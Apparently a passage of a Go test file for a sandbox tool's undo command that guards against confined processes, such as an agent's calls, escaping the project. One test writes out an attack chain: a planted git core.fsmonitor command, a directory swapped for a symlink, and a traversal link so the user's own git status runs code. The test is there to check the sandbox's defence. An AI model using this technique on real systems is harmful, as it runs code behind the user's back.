	out, _ = w.run(t, w.cli, "undo", "--yes", "--list")
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 2 {
		t.Fatalf("records %v %v\n%s", metas, err, short(out))
	}
	out, _ = w.run(t, w.cli, "undo", "--yes", metas[1].ID)
	if !strings.Contains(out, "longer than 4096 bytes") {
		t.Errorf("undo of the chain does not say what it did not record:\n%s", short(out))
	}
	for _, line := range strings.Split(out, "\n") {
		if len(line) > 4096+200 {
			t.Errorf("undo of the chain names a path longer than 4096 bytes: %s", short(line))
			break
		}
	}
}

// TestUndoLinkLeadsOutAfter: what undo turns back changes where a link
// leads. The eighteenth attack run: a call left a git directory in its Go
// cache (outside the project, outlasting the call) and replaced src/u by
// a link to a/b; a second call made src/l to u/../../../tmp/..., which
// its sweep judged while u was a link (it led nowhere); undo of the first
// call made u a directory again, l then led into the cache, and the
// user's git status through l ran the git directory's fsmonitor. After
// undo, every link that leads into a scratch directory is held back.
// Control: undo puts src/u back as the directory it was.
func TestUndoLinkLeadsOutAfter(t *testing.T) {
	w := newWorld(t)
	pwned := filepath.Join(w.root, "pwned")
	w.run(t, "/bin/sh", "-c", "mkdir -p src/u src/a/b && echo u > src/u/keep")
	sh := func(script string) string {
		return fmt.Sprintf(`import subprocess; subprocess.run(["sh", "-c", %q], check=True)`, script)
	}
	w.jailed(t, sh(`mkdir -p "$GOCACHE/x" && cd "$GOCACHE/x" && git init -q && git config core.fsmonitor "touch `+pwned+`; false" && cd - >/dev/null && rm -rf src/u && ln -s a/b src/u`))
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 1 {
		t.Fatalf("records %v %v", metas, err)
	}
	first := metas[0].ID
	w.jailed(t, sh(`ln -s "u/../../../tmp/loopguard-scratch-$(id -u)/$(basename "$GOCACHE")/x" src/l`))
	if _, err := os.Lstat(filepath.Join(w.proj, "src/l")); err != nil {
		t.Fatalf("the second call's link was held back by its sweep: the test's premise is gone: %v", err)
	}
	out, code := w.run(t, w.cli, "undo", "--yes", first)
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if fi, err := os.Lstat(filepath.Join(w.proj, "src/u")); err != nil || !fi.IsDir() {
		t.Fatalf("control: src/u is not a directory again after undo: %v\n%s", err, out)
	}
	w.run(t, "/bin/sh", "-c", "cd src/l 2>/dev/null && git status >/dev/null 2>&1; true")
	if _, err := os.Lstat(pwned); err == nil {
		t.Errorf("after undo, the user's git status through src/l ran the Go cache's git directory:\n%s", out)
	}
	if !strings.Contains(out, "src/l") {
		t.Errorf("undo did not say it held back src/l:\n%s", out)
	}
}

// TestUndoUnreadableNotBlamed: the record reads a file a call made
// unreadable (chmod 000) with its owner's read bit given and taken back,
// which moves the file's change time; the next record's listing keeps the
// time after, so that a later call that does not touch the file is not
// taken to have changed it (undo put it back, a new inode, and broke its
// hard links). Control: that call's own change is undone.
func TestUndoUnreadableNotBlamed(t *testing.T) {
	w := newWorld(t)
	w.jailed(t, `import os; open("priv.txt", "w").write("data\n"); os.chmod("priv.txt", 0)`)
	time.Sleep(2100 * time.Millisecond) // past the record's racy window
	w.jailed(t, `open("README.md", "a").write("x\n")`)
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if strings.Contains(out, "priv.txt") {
		t.Errorf("undo of a call that did not touch priv.txt names it:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "README.md")); string(b) != "# project\n" {
		t.Errorf("control: README.md after undo: %q\n%s", b, out)
	}
}

// TestUndoKeepsWhatItReplaces: what the human changes in the project
// while a confined call runs is, to the record, the call's (its
// after-state is the project when its last process exited): undo of a
// long call reverted the human's edit and removed the file they made,
// with no copy anywhere (the thirty-fourth attack run). Undo now says
// how long the call ran and what that means, and keeps a copy of each
// file it replaces or removes, the call's own too. Control: the project
// is put back as it was before the call.
func TestUndoKeepsWhatItReplaces(t *testing.T) {
	w := newWorld(t)
	want := listing(t, w.proj)
	s := confine.Spec{Cap: projectWrite(t), Project: w.proj, Cwd: w.proj, Exe: "/usr/bin/python3",
		Argv: []string{"python3", "-c", `import time; open("build.log", "w").write("the call's\n"); time.sleep(6)`}}
	cmd := exec.Command(w.exec, s.Args()...)
	cmd.Env, cmd.Dir = w.env, w.proj
	if os.Getuid() == 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	}
	var callOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &callOut, &callOut
	mustDo(t, cmd.Start())
	time.Sleep(2 * time.Second)
	// The human, unconfined, while the call runs.
	if out, code := w.run(t, "/bin/sh", "-c", `echo "my fix" >> tracked.txt && echo "two hours of notes" > NOTES.md`); code != 0 {
		t.Fatalf("the human's edit: %d %s", code, out)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("the call: %v %s", err, callOut.String())
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	// The call sleeps 6 s; its start and end add a second or more on a
	// loaded machine (7s on a clean clone's make test).
	ran := regexp.MustCompile(`The call ran for (\d+)s`).FindStringSubmatch(out)
	secs := 0
	if ran != nil {
		secs, _ = strconv.Atoi(ran[1])
	}
	if secs < 6 || secs > 30 || !strings.Contains(out, "your own edits too, counts as the call's") {
		t.Errorf("undo did not say how long the call ran and what that means:\n%s", out)
	}
	if got := listing(t, w.proj); got != want {
		t.Errorf("control: after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
	}
	kept, err := filepath.Glob(filepath.Join(w.store(t).Dir, "records", "*", "replaced", "*"))
	if err != nil || len(kept) != 1 {
		t.Fatalf("the copies undo kept: %v %v\n%s", kept, err, out)
	}
	if !strings.Contains(out, "A copy of each file it replaced or removed (3) is in "+kept[0]) {
		t.Errorf("undo did not say where it kept the copies:\n%s", out)
	}
	for name, content := range map[string]string{"tracked.txt": "tracked\nmy fix\n", "NOTES.md": "two hours of notes\n", "build.log": "the call's\n"} {
		p := filepath.Join(kept[0], name)
		if b, err := os.ReadFile(p); err != nil || string(b) != content {
			t.Errorf("the copy of %s: %q %v", name, b, err)
		}
		if fi, err := os.Stat(p); err == nil && fi.Mode().Perm() != 0o600 {
			t.Errorf("the copy of %s has mode %v, want 0600 (it may hold a secret)", name, fi.Mode())
		}
	}
}

// TestUndoKeepsBesideItsOwnName: a copy undo keeps is written under a name
// no file of the project has; the thirty-eighth attack run's call made
// a.txt.tmp beside the a.txt it changed, keeping a.txt failed, and undo
// left the call's a.txt. Control: both are put back as they were.
func TestUndoKeepsBesideItsOwnName(t *testing.T) {
	w := newWorld(t)
	want := listing(t, w.proj)
	s := confine.Spec{Cap: projectWrite(t), Project: w.proj, Cwd: w.proj, Exe: "/bin/sh",
		Argv: []string{"sh", "-c", `echo EVIL > tracked.txt && echo x > tracked.txt.tmp && echo y > .loopguard-keep-1`}}
	if out, code := w.run(t, append([]string{w.exec}, s.Args()...)...); code != 0 {
		t.Fatalf("the call: %d %s", code, out)
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 || strings.Contains(out, "Could not") {
		t.Errorf("undo: %d %s", code, out)
	}
	if got := listing(t, w.proj); got != want {
		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
	}
}
